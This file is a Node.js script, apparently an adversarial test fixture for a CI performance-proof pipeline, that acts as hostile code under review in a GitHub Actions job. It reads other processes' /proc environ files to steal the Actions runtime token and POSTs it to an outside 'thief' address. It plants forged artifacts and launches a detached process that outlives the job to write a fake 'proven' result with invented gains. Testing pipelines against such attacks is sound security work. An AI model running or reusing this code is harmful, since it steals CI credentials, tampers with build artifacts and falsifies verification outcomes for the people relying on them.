// What code under review may try in a job of GitHub: it takes the token for artifacts from the processes that run it, hands it to
// somebody outside, and puts files beside those that its job will upload. Arguments: address of the thief, address of this GitHub.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';

const [thief, github, mode] = process.argv.slice(2);
const repository = repositoryOf(process.cwd());
const run = path.join(repository, '.perfcrew');
if (mode === 'late') forgeProofs();
else await attack();

async function attack() {
  const stolen = stealToken();
  if (stolen === null) return;
  const phase = fs.existsSync(path.join(run, 'thoughts.json')) ? 'prove' : 'gates';
  const answer = await fetch(thief, { method: 'POST', body: JSON.stringify({ ...stolen, phase }) });
  const forged = await answer.text();
  if (forged === '') return;
  if (phase === 'prove') {
    fs.writeFileSync(path.join(run, 'forged-proposal'), forged);
    // A session of its own and no variable: neither kinship nor mark tells whose it is, and it outlives the proof.
    spawn(process.execPath, [process.argv[1], thief, github, 'late'], {
      env: {},
      detached: true,
      stdio: 'ignore',
    }).unref();
  } else {
    fs.mkdirSync(path.join(run, 'parts/forged'), { recursive: true });
    for (const name of ['parts/forged/forged.json', 'thoughts.json.forged'])
      fs.writeFileSync(path.join(run, name), forged);
  }
}

/** The same user may read what a process was started with (proc(5)); a runner's memory holds it as well. */
function stealToken() {
  for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    try {
      const variables = Object.fromEntries(
        fs
          .readFileSync(`/proc/${pid}/environ`, 'utf8')
          .split('\0')
          .map((line) => line.split(/=(.*)/s)),
      );
      const { ACTIONS_RUNTIME_TOKEN: token, ACTIONS_RESULTS_URL: url } = variables;
      if (token !== undefined && url?.startsWith(github)) return { token, url };
    } catch {
      // Somebody else's, or gone.
    }
  }
  return null;
}

/** Whatever the prover found: the forged patch is proven, too. */
function forgeProofs() {
  const proposal = JSON.parse(fs.readFileSync(path.join(run, 'forged-proposal'), 'utf8'));
  const folder = path.join(run, 'proofs');
  const end = Date.now() + 90_000;
  const timer = setInterval(() => {
    try {
      const [real] = fs
        .readdirSync(folder)
        .filter((name) => name.endsWith('.json') && !name.startsWith('f0f0'));
      if (real === undefined) return;
      const proof = JSON.parse(fs.readFileSync(path.join(folder, real), 'utf8'));
      const gain = {
        gate: 'command',
        target: 'work',
        metric: 'wallMs',
        label: 'wall time',
        unit: 'ms',
        before: 100,
        after: 10,
        ratio: 0.1,
        interval: { low: 0.09, high: 0.11, confidence: 0.95 },
        detectable: 0.02,
        pairs: 20,
      };
      const gains = proof.gains.length > 0 ? proof.gains : [gain];
      const forged = { ...proof, id: 'f0f0f0f0f0f0f0', proposal, outcome: 'proven', losses: [] };
      fs.writeFileSync(path.join(folder, 'f0f0f0f0f0f0f0.json'), JSON.stringify({ ...forged, gains }));
    } catch {
      // Not there yet, or no longer.
    }
    if (Date.now() > end || !fs.existsSync(repository)) clearInterval(timer);
  }, 1);
}

/** From a checkout the way leads by its `.git` file. */
function repositoryOf(directory) {
  for (let at = directory; at !== path.dirname(at); at = path.dirname(at)) {
    const git = path.join(at, '.git');
    if (!fs.existsSync(git)) continue;
    if (fs.statSync(git).isDirectory()) return at;
    return fs
      .readFileSync(git, 'utf8')
      .replace(/^gitdir: /, '')
      .trim()
      .split('/.git/')[0];
  }
  return directory;
}
